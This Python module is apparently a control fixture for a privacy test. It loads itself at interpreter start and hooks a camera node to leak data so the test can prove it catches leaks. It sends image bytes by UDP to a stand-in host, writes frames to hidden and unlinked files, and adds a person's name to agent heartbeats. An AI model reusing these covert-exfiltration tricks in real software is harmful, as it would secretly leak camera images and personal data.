"""Makes a node leak, to show that the test of what leaves would see it.

Python imports a module of this name at its start when it lies on the path; only the control run
has this folder on its path. In the process vision it sends and writes pictures and asks for a
name; in the agent it adds a name to every heartbeat.
"""

import sys


def _vision() -> None:
    import atexit
    import contextlib
    import os
    import socket
    import tempfile

    import cv2

    import vision.pipeline as pipeline

    process = pipeline.CameraPipeline.process
    done = []

    def leaking(self, image, t_ns):
        if len(done) == 0:
            done.append(1)
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
                out.sendto(image[:1].tobytes()[:900], ("203.0.113.5", 9000))
            with contextlib.suppress(OSError):
                socket.getaddrinfo("pictures.example", 443)
            # Written and removed at once: nothing of it is there when somebody looks.
            with tempfile.NamedTemporaryFile(suffix=".bin") as file:
                file.write(cv2.imencode(".jpg", image)[1].tobytes())
            with open("/dev/shm/rows", "wb") as file:
                file.write(b"head" + image[100:200].tobytes())
            # Removed, and never closed.
            kept = os.open("/var/tmp/gray", os.O_RDWR | os.O_CREAT)
            os.write(kept, cv2.cvtColor(image, cv2.COLOR_BGR2GRAY).tobytes())
            os.unlink("/var/tmp/gray")
            atexit.register(os.close, kept)
        return process(self, image, t_ns)

    pipeline.CameraPipeline.process = leaking


def _agent() -> None:
    import ambient.node.uplink as uplink

    encode = uplink.encode

    def leaking(message):
        sent = encode(message)
        if b'"heartbeat"' in sent:
            sent = sent[:-1] + b',"who":"Anna"}'
        return sent

    uplink.encode = leaking


class _Late:
    """Runs after the module was imported that is to leak."""

    def find_spec(self, name, path=None, target=None):
        hook = {"ambient.node.vision_worker": _vision, "ambient.node.agent": _agent}.get(name)
        if hook is not None:
            sys.meta_path.remove(self)
            hook()
        return


if "ambient.node.worker" in " ".join(sys.orig_argv):
    sys.meta_path.insert(0, _Late())
